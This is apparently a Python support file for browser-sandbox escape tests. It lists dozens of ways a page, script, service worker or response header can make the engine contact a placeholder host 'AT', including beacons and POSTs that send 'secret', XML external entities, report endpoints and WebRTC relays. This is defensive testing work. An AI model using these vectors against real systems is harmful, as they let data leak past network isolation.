"""Every way a page has of making the engine ask another host for something.

``AT`` is where it should not go, ``NAME`` its host and port. Ordered by the number
that the escape cases give to each kind.
"""

import json

from support.pages import PageServer, Reply

_MARKUP = {
    "L11": {
        "background": "<div style='background:url(AT/background)'>x</div>",
        "import": "<style>@import 'AT/import';</style>",
        "font": "<style>@font-face{font-family:q;src:url(AT/font)}"
        "p{font-family:q}</style><p>x</p>",
        "cursor": "<style>body{cursor:url(AT/cursor),auto;list-style:url(AT/list);"
        "border-image:url(AT/border);mask:url(AT/mask#x);filter:url(AT/filter#x)}"
        "</style>",
        "set": "<div style=\"background:image-set('AT/set' 1x)\">x</div>",
    },
    "L12": {
        "svg": "<svg><use href='AT/use#a'/><image href='AT/image' width=9 height=9 />"
        "<filter id=f><feImage href='AT/filtered'/></filter>"
        "<rect filter='url(#f)' width=9 height=9 /></svg>",
        "script": "<svg><script href='AT/script'></script></svg>",
        "media": "<video poster='AT/poster' src='AT/video' autoplay muted></video>"
        "<audio src='AT/audio' autoplay></audio><video><source src='AT/source'>"
        "<track src='AT/track' default kind=captions></video>",
        "pictures": "<picture><source srcset='AT/srcset 1x'><img src=x></picture>"
        "<input type=image src='AT/input'><table background='AT/table'>",
        "links": "<link rel=apple-touch-icon href='AT/icon'>"
        "<link rel=prefetch as=document href='AT/prefetch'>"
        "<link rel=preload as=font crossorigin href='AT/preload'>"
        "<link rel=modulepreload href='AT/module'>"
        "<link rel=manifest href='/manifest'>"
        "<link rel=compression-dictionary href='AT/dictionary'>"
        "<link rel=preload as=image imagesrcset='AT/set 1x'>"
        "<link rel=search type=application/opensearchdescription+xml href='AT/search'>"
        "<link rel='payment monetization privacy-policy expect' href='AT/others'>",
        "attribution": "<img src='/x' attributionsrc='AT/attribution'>",
    },
    "L13": {
        "speculating": "<iframe src='/speculating'></iframe>",
        "refreshing": "<iframe src='/refreshing'></iframe>",
        "reporting": "<iframe src='/reporting'></iframe>",
    },
    "L14": {
        "sheet": "<iframe src='/sheet'></iframe>",
        "drawing": "<iframe src='/drawing'></iframe>",
        "letters": "<iframe src='/letters'></iframe>",
    },
}
_SCRIPTS = {
    "L12": {
        "frame": "const f = document.createElement('frame'); f.src = 'AT/frame';"
        "const s = document.createElement('frameset'); s.append(f);"
        "document.documentElement.append(s)",
        "base": "const b = document.createElement('base'); b.href = 'AT/';"
        "document.head.append(b); new Image().src = 'based'; b.remove()",
        "body": "document.body.background = 'AT/body'",
    },
    "L15": {
        "import": "import('AT/import').catch(() => 0)",
        "worklets": "CSS.paintWorklet?.addModule('AT/paint').catch(() => 0);"
        "new AudioContext().audioWorklet?.addModule('AT/audio').catch(() => 0)",
        "service": "navigator.serviceWorker.register('AT/service').catch(() => 0)",
        "shared": "new SharedWorker(URL.createObjectURL(new Blob(["
        '\'fetch("AT/shared").catch(() => 0); importScripts("AT/imported")\'],'
        "{type: 'text/javascript'})))",
        "nested": "new Worker(URL.createObjectURL(new Blob(['new Worker("
        "URL.createObjectURL(new Blob([\\'fetch(\"AT/nested\")\\'])))'])))",
    },
    "L16": {
        "keepalive": "fetch('AT/keepalive', {keepalive: true, method: 'POST',"
        "body: 'secret', mode: 'no-cors'}).catch(() => 0)",
        "ping": "const a = document.createElement('a'); a.href = 'javascript:0';"
        "a.ping = 'AT/ping'; document.body.append(a); a.click()",
        "sync": "const x = new XMLHttpRequest(); x.open('POST', 'AT/sync', false);"
        "x.send('secret')",
        "stream": "new WebSocketStream('ws://NAME/stream').opened.catch(() => 0)",
        "later": "fetchLater('AT/later')",
        "cache": "caches.open('x').then(c => c.add('AT/cache')).catch(() => 0)",
    },
    "L17": {
        "socket": "new WebSocket(location.origin.replace('http', 'ws') + '/away')",
        "events": "new EventSource('/away')",
        "beacon": "navigator.sendBeacon('/handed', 'secret')",
        "post": "fetch('/handed', {method: 'POST', body: 'secret'}).catch(() => 0)",
    },
    "L18": {
        "fedcm": "navigator.credentials.get({identity: {providers: [{configURL:"
        "'AT/fedcm', clientId: '1'}]}}).catch(() => 0)",
        "auction": "navigator.joinAdInterestGroup({owner: 'AT', name: 'x',"
        "biddingLogicURL: 'AT/auction'}, 100).catch(() => 0)",
        "topics": "document.browsingTopics().then(() => 0)",
        "token": "fetch('AT/token', {privateToken: {version: 1, operation:"
        "'token-request'}}).catch(() => 0)",
        "fenced": "const f = document.createElement('fencedframe');"
        "f.config = new FencedFrameConfig('AT/fenced'); document.body.append(f)",
    },
    "L19": {
        "relay": "const p = new RTCPeerConnection({iceServers: [{urls:"
        "['turn:NAME?transport=tcp', 'stun:NAME'], username: 'a', credential: 'b'}]});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))",
        "candidate": "const p = new RTCPeerConnection(), q = new RTCPeerConnection();"
        "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());"
        "await q.setRemoteDescription(p.localDescription);"
        "await q.setLocalDescription(await q.createAnswer());"
        "await p.setRemoteDescription(q.localDescription);"
        "const [host, port] = 'NAME'.split(':'); for (const kind of ['tcp', 'udp'])"
        "await p.addIceCandidate({sdpMid: '0', sdpMLineIndex: 0, candidate:"
        "`candidate:1 1 ${kind} 2105458943 ${host} ${port} typ host`"
        "+ (kind === 'tcp' ? ' tcptype passive' : '')})",
        "transport": "new WebTransport('https://NAME/').ready.catch(() => 0)",
    },
    "L20": {
        "answers": "await navigator.serviceWorker.register('/answering');"
        "await navigator.serviceWorker.ready; for (const how of ['redirect', 'fetch',"
        "'cors', 'page']) { const f = document.createElement('iframe'); f.src ="
        "'/answered?' + how; document.body.append(f); fetch(f.src).catch(() => 0) }",
        "worker": "const r = await navigator.serviceWorker.register('/worker');"
        "await navigator.serviceWorker.ready; setTimeout(() => r.unregister(), 200)",
    },
}
KINDS = sorted({*_MARKUP, *_SCRIPTS})


def tries_of(kind: str, at: str) -> dict[str, str]:
    """Scripts by name, for one kind of reach, towards ``at``."""
    shown = {
        f"{name} in the page": f"document.body.insertAdjacentHTML('beforeend', {html})"
        for name, html in (
            (name, json.dumps(markup)) for name, markup in _MARKUP.get(kind, {}).items()
        )
    }
    place = at.split("//")[1]
    return {
        name: script.replace("AT/", f"{at}/")
        .replace("'AT'", f"'{at}'")
        .replace("NAME", place)
        for name, script in (shown | _SCRIPTS.get(kind, {})).items()
    }


def serve_ways_out(site: PageServer, at: str) -> None:
    """Pages and headers of the site itself that name another host."""
    place = at.split("//")[1]
    groups = {"group": "d", "max_age": 99, "endpoints": [{"url": f"{at}/group"}]}
    sheet = (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{at}/sheet"?>'
        f'<!DOCTYPE r [<!ENTITY e SYSTEM "{at}/entity">]><r>&e;</r>'
    )
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{at}/drawn"/>'
        f'<script>top.location="{at}/top"</script></svg>'
    )
    letters = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\nContent-Location: {at}/\r\n\r\n"
        f"<img src={at}/letter>\r\n--b--"
    )
    worker = (
        "oninstall = () => skipWaiting(); onactivate = e => e.waitUntil((async () => {"
        "await clients.claim(); for (const one of await clients.matchAll())"
        f"one.navigate('{at}/moved').catch(() => 0);"
        f"clients.openWindow('{at}/opened').catch(() => 0);"
        f"fetch('{at}/fetched').catch(() => 0) }})())"
    )
    answering = (
        "oninstall = () => skipWaiting(); onactivate = e => e.waitUntil("
        f"clients.claim()); const at = '{at}'; const ways = {{"
        "redirect: () => Response.redirect(at + '/answered'),"
        "fetch: () => fetch(at + '/answered', {mode: 'no-cors'}),"
        "cors: () => fetch(at + '/answered'),"
        "page: () => new Response(`<script>top.location='${at}/answered'<\\/script>`,"
        "{headers: {'Content-Type': 'text/html', Refresh: `0; url=${at}/refreshed`,"
        "Link: `<${at}/linked>; rel=preload; as=script`}})};"
        "onfetch = e => { const way = ways[new URL(e.request.url).search.slice(1)];"
        "if (way) e.respondWith(way()) }"
    )
    site.replies |= {
        "/away": Reply(status=302, headers={"Location": f"{at}/away"}),
        "/handed": Reply(status=307, headers={"Location": f"{at}/handed"}),
        "/refreshing": Reply(headers={"Refresh": f"0; url={at}/refreshed"}),
        "/speculating": Reply(
            headers={
                "Speculation-Rules": f'"{at}/rules"',
                "Link": f"<{at}/>; rel=preconnect, <{at}/linked>; rel=modulepreload",
                "Alt-Svc": f'h2="{place}"; ma=99, h3="{place}"',
            }
        ),
        "/reporting": Reply(
            b"<script>nothing()</script>",
            headers={
                "Reporting-Endpoints": f'default="{at}/endpoint"',
                "Report-To": json.dumps(groups),
                "Cross-Origin-Opener-Policy": 'same-origin; report-to="default"',
                "Cross-Origin-Embedder-Policy": 'require-corp; report-to="default"',
                "Permissions-Policy": "geolocation=();report-to=default",
                "Document-Policy": "document-write=?0;report-to=default",
                "NEL": '{"report_to":"d","max_age":99,"success_fraction":1.0}',
                "Content-Security-Policy": "script-src 'none'; report-to default;"
                f" report-uri {at}/uri",
            },
        ),
        "/manifest": Reply(
            json.dumps({"icons": [{"src": f"{at}/manifest", "sizes": "9x9"}]}).encode(),
            "application/manifest+json",
        ),
        "/sheet": Reply(sheet.encode(), "text/xml"),
        "/drawing": Reply(drawing.encode(), "image/svg+xml"),
        "/letters": Reply(letters.encode(), "multipart/related"),
        "/answering": Reply(answering.encode(), "text/javascript"),
        "/worker": Reply(worker.encode(), "text/javascript"),
    }
